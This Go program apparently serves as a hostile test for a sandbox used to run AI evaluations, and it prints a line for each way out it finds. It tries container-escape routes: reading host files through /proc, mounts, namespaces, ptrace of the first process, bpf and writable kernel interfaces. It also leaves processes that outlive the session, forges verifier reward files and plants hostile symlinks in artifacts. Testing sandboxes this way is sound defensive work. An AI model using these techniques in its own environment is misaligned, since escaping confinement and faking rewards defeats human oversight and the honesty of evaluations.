// Command hostile tries to get out of the space in which it runs, and prints a line for each way
// that it has found. Its arguments are things of the machine outside: a private file, a word that
// is known only outside, the address of a listener, and the name of an abstract socket.
package main

import (
	"bytes"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	private, word, address, socket := os.Args[1], []byte(os.Args[2]+os.Args[3]), os.Args[4], os.Args[5]
	files(private, word)
	processes(word)
	system()
	for network, at := range map[string]string{"tcp": address, "unix": "@" + socket} {
		if c, err := net.DialTimeout(network, at, time.Second); err == nil {
			_ = c.Close()
			found("connected to %s", at)
		}
	}
	leave(private)
	fmt.Println("tried everything")
}

func found(format string, args ...any) { fmt.Printf("ESCAPED: "+format+"\n", args...) }

// files looks for the private file, and for the secrets of the task's tests.
func files(private string, word []byte) {
	_ = os.Symlink("/", "/app/root")
	places := []string{"", "/app/root", "/proc/1/root", "/proc/1/cwd", "/proc/self/root/../..", "/proc/1/task/1/root"}
	fds, _ := filepath.Glob("/proc/[0-9]*/fd/*")
	roots, _ := filepath.Glob("/proc/[0-9]*/root")
	for _, place := range append(append(places, fds...), roots...) {
		if text, err := os.ReadFile(place + private); err == nil && bytes.Contains(text, word) {
			found("read %s", place+private)
		}
	}
	_ = filepath.WalkDir("/", func(path string, e fs.DirEntry, err error) error {
		switch {
		case path == "/proc" || path == "/sys" || path == "/dev" || path == "/run/evalrun/host":
			return fs.SkipDir
		case err == nil && e.Type().IsRegular():
			if text, err := os.ReadFile(path); err == nil && bytes.Contains(text, word) {
				found("%s has what only outside is known", path)
			}
		}
		return nil
	})
	for _, file := range []string{"/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern",
		"/proc/sys/kernel/hostname", "/proc/sys/vm/drop_caches", "/proc/kcore", "/dev/mem", "/dev/kmsg",
		"/sys/fs/cgroup/release_agent", "/sys/kernel/uevent_helper", "/run/evalrun/evalrun"} {
		if f, err := os.OpenFile(file, os.O_WRONLY, 0); err == nil {
			_ = f.Close()
			found("%s can be written", file)
		}
	}
	for minor := range 2 {
		disk := fmt.Sprint("/tmp/disk", minor)
		if unix.Mknod(disk, unix.S_IFBLK|0o600, int(unix.Mkdev(254, uint32(minor)))) == nil {
			if f, err := os.Open(disk); err == nil {
				_ = f.Close()
				found("the disk 254:%d can be read", minor)
			}
		}
	}
}

// processes looks at the processes of the machine, and at the first one here.
func processes(word []byte) {
	for _, name := range []string{"cmdline", "environ"} {
		of, _ := filepath.Glob("/proc/[0-9]*/" + name)
		for _, file := range of {
			if strings.HasPrefix(file, fmt.Sprintf("/proc/%d/", os.Getpid())) {
				continue
			}
			if text, err := os.ReadFile(file); err == nil && bytes.Contains(text, word) {
				found("%s has what only outside is known", file)
			}
		}
	}
	if unix.PtraceSeize(1) == nil {
		found("the first process can be traced")
	}
	for _, name := range []string{"mem", "fd/3", "fd/4", "fd/5"} {
		if f, err := os.OpenFile("/proc/1/"+name, os.O_RDWR|unix.O_NONBLOCK, 0); err == nil {
			_ = f.Close()
			found("%s of the first process can be written", name)
		}
	}
}

// system makes calls that no process in a space may make.
func system() {
	try := func(name string, err error) {
		if err == nil {
			found("%s", name)
		}
	}
	try("mount of memory", unix.Mount("none", "/tmp", "tmpfs", 0, ""))
	try("bind", unix.Mount("/etc", "/tmp", "", unix.MS_BIND, ""))
	try("remount", unix.Mount("none", "/run/evalrun", "", unix.MS_REMOUNT|unix.MS_BIND, ""))
	try("mount of proc", unix.Mount("proc", "/tmp", "proc", 0, ""))
	for _, at := range []string{"/proc", "/dev", "/run/evalrun", "/etc"} {
		try("unmount of "+at, unix.Unmount(at, unix.MNT_DETACH))
	}
	try("a mount namespace", unix.Unshare(unix.CLONE_NEWNS))
	try("a user namespace", unix.Unshare(unix.CLONE_NEWUSER))
	if root, err := unix.Open("/app", unix.O_RDONLY, 0); err == nil {
		_, err := unix.OpenByHandleAt(root, unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0}), unix.O_RDONLY)
		try("open by handle", err)
	}
	for _, ring := range []int{unix.KEY_SPEC_USER_KEYRING,
		unix.KEY_SPEC_SESSION_KEYRING, unix.KEY_SPEC_USER_SESSION_KEYRING} {
		_, err := unix.KeyctlSearch(ring, "user", os.Args[5], 0)
		try("a key of the machine", err)
	}
	_, err := unix.AddKey("user", "evalrun-planted", []byte("x"), unix.KEY_SPEC_USER_KEYRING)
	try("a key for the machine", err)
	_, _, errno := unix.Syscall(unix.SYS_BPF, 0, 0, 0)
	if errno == 0 {
		found("bpf")
	}
}

// leave sets traps for later processes: processes that want to live on, a forged reward, and in the
// artifacts links that lead out, and things that cannot be copied.
func leave(private string) {
	for range 2 {
		cmd := exec.Command("/bin/bash", "-c", "trap '' TERM HUP INT; sleep 88123 & sleep 88123")
		cmd.Env, cmd.SysProcAttr = []string{}, &syscall.SysProcAttr{Setsid: true}
		_ = cmd.Start() // it may not be allowed
	}
	_ = os.WriteFile("/logs/verifier/reward.txt", []byte("1"), 0o444)
	_ = os.WriteFile("/logs/verifier/reward.json", []byte(`{"reward":1}`), 0o444)
	_ = os.Rename("/logs/verifier", "/logs/old")
	_ = os.Symlink("/app/forged", "/logs/verifier")
	_ = os.Mkdir("/app/forged", 0o777)
	_ = os.WriteFile("/app/forged/reward.txt", []byte("1"), 0o444)
	_ = os.Mkdir("/tests", 0o777)
	_ = os.WriteFile("/tests/test.sh", []byte("echo 1 >/logs/verifier/reward.txt"), 0o755)
	at := "/logs/artifacts/"
	for name, target := range map[string]string{"link": private, "folder": filepath.Dir(private),
		"up": "../../../../../../../..", "proc": "/proc/self/environ"} {
		_ = os.Symlink(target, at+name)
	}
	_ = unix.Mkfifo(at+"fifo", 0o666)
	_, _ = net.Listen("unix", at+"socket")
	_ = os.WriteFile(at+"new\nline", nil, 0)
	_ = os.Truncate(at+"new\nline", 3<<20)
	if os.Chdir(at) == nil {
		for range 400 {
			_ = os.Mkdir("ddddddddddddddddddddd", 0o755)
			_ = os.Chdir("ddddddddddddddddddddd")
		}
	}
}
